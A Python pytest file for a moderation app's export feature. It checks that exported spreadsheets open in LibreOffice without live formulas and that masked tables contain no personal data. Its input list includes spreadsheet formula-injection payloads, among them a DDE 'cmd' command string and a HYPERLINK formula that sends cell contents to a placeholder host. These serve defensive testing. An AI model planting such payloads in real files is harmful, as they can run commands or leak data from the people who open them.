"""Every table that goes out opens in LibreOffice as it stands there: no repair, no live formula."""

from pathlib import Path
from uuid import UUID

import pytest

from moderator_app.core import exporting
from moderator_app.core.case import Audience, Outcome, Purpose
from moderator_app.core.cells import Cell, cell_text, unguarded
from moderator_app.core.decisions import Incoming
from moderator_app.core.headings import Table
from moderator_app.core.organisations import Contact, Kind, Number, Organisation
from moderator_app.core.routing import RemitEntry
from moderator_app.core.templates import Purpose as Use
from moderator_app.core.templates import Template
from moderator_app.desk import exporting as bringing_out
from moderator_app.desk import kits
from moderator_app.desk.casework import Handover, Words
from moderator_app.desk.desk import Desk
from moderator_app.desk.exporting import Wish
from moderator_app.desk.intake import Answered
from moderator_app.desk.opening import ZONE
from moderator_app.store.reader import Reader
from moderator_app.system.home import resources
from tests.desk import spreadsheets
from tests.desk.spreadsheets import Shown
from tests.desks import T0, a_desk, a_reader, invented

NASTY = (
    "=1+1",
    '=HYPERLINK("http://example.invalid?"&A1,"看")',
    "+8613912345678",
    "-1+2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "''quoted",
    "=cmd|' /C calc'!A0",
    "0012345",
    "20261101000000012345",
    "1E5",
    "3/4",
    "TRUE",
    "<b>&amp;]]></b>",
    "_x0041_ and _x000D_",
    "两行\n第二行\n\n第四行",
    "  two  blanks\tand a tab  .",
    "emoji 👨‍👩‍👧‍👦💡 㐂𠮷 e\u0301",
    "\u202e亮不灯路\u202c",
    "\u200bzero\ufeff width",
    "控制\x01\x0b\x1f符\x7f\x85",
    "\ufffe\uffff",
    '"quoted", with; commas',
    "长" * 40_000,
    "💡" * 20_000,
)
PLAIN = "王小明"
PHONE = "13800138000"
CONTACT = "13900139000"


def fill(desk: Desk) -> None:
    kits.stock(desk.directory, resources())
    directory = desk.directory
    lead = UUID(int=0x77)
    for n, text in enumerate(NASTY):
        short = text[:2_000]
        office = Organisation(
            lead if n == 0 else UUID(int=0x7700 + n), f"{short}{n}", Kind.DEPARTMENT, short=short,
            duties=(short,), numbers=(Number(short[:9], "0315-2801234"),), address=short,
            contacts=(Contact("李工", "", CONTACT),), note=short,
        )  # fmt: skip
        directory.save_organisation(office)
        directory.save_template(Template(UUID(int=0x8800 + n), f"{short}{n}", short, Use.ANSWER))
        directory.save_remit(RemitEntry(UUID(int=0x9900 + n), f"{short}{n}", lead, advice=short))
        message = Incoming(
            "weibo", f"{n} {short[:40]}", f"{text} {PLAIN} {PHONE}", T0, author=PLAIN, phone=PHONE,
            title=short[:80], place=short[:40], url=short[:40], extra=(("满意度", short),),
        )  # fmt: skip
        taken = desk.intake.receive([Answered(message, text, T0 if n % 2 else None)])
        (case,) = taken.changes.cases
        desk.cases.note(case, f"备注{short}")
        if n % 3 == 0:
            seen = desk.session.case(case).head
            words = Words(short or "好", Purpose.ASK, Audience.PUBLIC)
            desk.cases.commit(case, seen, to=Handover(lead, (), short), reply=words)
            desk.cases.sent(case)
            desk.cases.answered(case, lead, short)
            seen = desk.session.case(case).head
            desk.cases.close(case, seen, Outcome.RESOLVED, "", told=True)
    desk.intake.receive(invented(30))


Made = dict[tuple[Table, bool, str], Path]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("office")


@pytest.fixture(scope="module")
def exported(folder: Path) -> Made:
    made: Made = {}
    with a_desk(folder) as desk, a_reader(folder) as reader:
        fill(desk)
        for table in Table:
            for masked in (True, False):
                for ending in bringing_out.KINDS:
                    name = f"{table}-{'masked' if masked else 'whole'}-{ending[1:]}{ending}"
                    wish = Wish(folder / name, table, masked=masked, reason="移交")
                    bringing_out.export(wish, desk, reader)
                    made[table, masked, ending] = wish.path
    return made


@pytest.fixture(scope="module")
def shown(folder: Path, exported: Made) -> dict[Path, Shown]:
    return spreadsheets.opened(folder, list(exported.values()))


def cells(reader: Reader, table: Table, *, masked: bool) -> list[tuple[Cell, ...]]:
    """What every row of a table should say."""
    material = bringing_out.gather(Wish(Path("a.xlsx"), table), T0, ZONE, reader)
    if table is Table.CASES:
        return [
            exporting.case_row(reader.history(case), material.names, ZONE, masked=masked)
            for case in material.cases
        ]
    known = material.known
    records = bringing_out._records(Wish(Path("a.xlsx"), table), known)
    return [exporting.record_row(one, known, masked=masked) for one in records]


EVERY = [
    pytest.param(table, masked, id=f"{table} {'masked' if masked else 'whole'}")
    for table in Table
    for masked in (True, False)
]


@pytest.mark.parametrize(("table", "masked"), EVERY)
def test_a_workbook_is_one_by_the_letter(exported: Made, table: Table, masked: bool) -> None:
    assert spreadsheets.faults(exported[table, masked, ".xlsx"]) == []


@pytest.mark.parametrize("ending", bringing_out.KINDS)
@pytest.mark.parametrize(("table", "masked"), EVERY)
def test_no_cell_of_a_table_would_calculate(
    exported: Made, shown: dict[Path, Shown], table: Table, masked: bool, ending: str
) -> None:
    opened = shown[exported[table, masked, ending]]
    assert opened.rows
    assert opened.formulas == ()


@pytest.mark.parametrize(("table", "masked"), EVERY)
def test_libreoffice_shows_every_cell_of_a_workbook_as_it_is(
    folder: Path, exported: Made, shown: dict[Path, Shown], table: Table, masked: bool
) -> None:
    opened = shown[exported[table, masked, ".xlsx"]].rows
    with a_reader(folder) as reader:
        wanted = cells(reader, table, masked=masked)
    columns = exporting.COLUMNS[table]
    assert opened[0][: len(columns)] == tuple(column.heading for column in columns)
    assert len(opened) == len(wanted) + 1
    for row, expected in zip(opened[1:], wanted, strict=True):
        for column, got, cell in zip(columns, row, expected, strict=False):
            assert_same(column.heading, got, cell_text(cell), row[len(columns) :])


def assert_same(heading: str, got: str, wanted: str, more: tuple[str, ...]) -> None:
    if unguarded(wanted) != wanted:
        # It looks guarded: the apostrophe that guards it is taken off when it comes in again.
        wanted = f"'{wanted}"
    if heading == exporting.MESSAGE:
        got += "".join(more)
    if got.endswith(exporting.CUT):
        got = got.removesuffix(exporting.CUT)
        wanted = wanted[: len(got)]
        assert len(got) > 16_000
    assert fit(got) == fit(wanted), heading


def fit(text: str) -> str:
    """Without what XML cannot hold, and tabs, which LibreOffice drops in cells of several lines."""
    return "".join(sign for sign in text if sign not in "\ufffe\uffff\t")


@pytest.mark.parametrize("ending", bringing_out.KINDS)
def test_nothing_of_a_masked_table_tells_who_it_was(exported: Made, ending: str) -> None:
    masked = {key: path for key, path in exported.items() if key[1:] == (True, ending)}
    assert len(masked) == len(Table)
    for key, path in masked.items():
        said = spreadsheets.everything(path)
        assert not [word for word in (PLAIN, PHONE, CONTACT) if word in said], key
